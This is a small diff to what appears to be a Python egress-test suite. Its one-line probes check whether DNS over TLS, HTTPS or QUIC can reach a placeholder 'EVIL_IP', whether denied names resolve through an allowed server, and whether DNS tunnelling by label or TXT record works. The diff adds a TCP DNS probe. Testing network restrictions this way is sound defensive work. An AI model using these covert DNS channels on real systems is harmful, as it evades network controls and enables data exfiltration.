@@ -117,6 +117,7 @@ def dns_over_tls(): return bool(tcp(EVIL_IP, 853, hello([denied_name()])))
 def dns_over_https(): return tls(EVIL_IP, [denied_name()])
 def dns_over_quic(): return bool(udp(EVIL_IP, 853, TOKEN.encode()))
 def dns_allowed_server_as_resolver(): return ask(denied_name(), server=lookup(ALLOWED))[1] > 0
+def dns_allowed_server_tcp(): return len(tcp(lookup(ALLOWED), 53, question(denied_name(), 1, True))) > 12
 def dns_allowed_server_tls(): return tls(lookup(ALLOWED), [ALLOWED], port=853)
 def dns_tunnel_label(): return ask(denied_name())[1] > 0
 def dns_tunnel_txt(): return ask(denied_name(), 16)[1] > 0
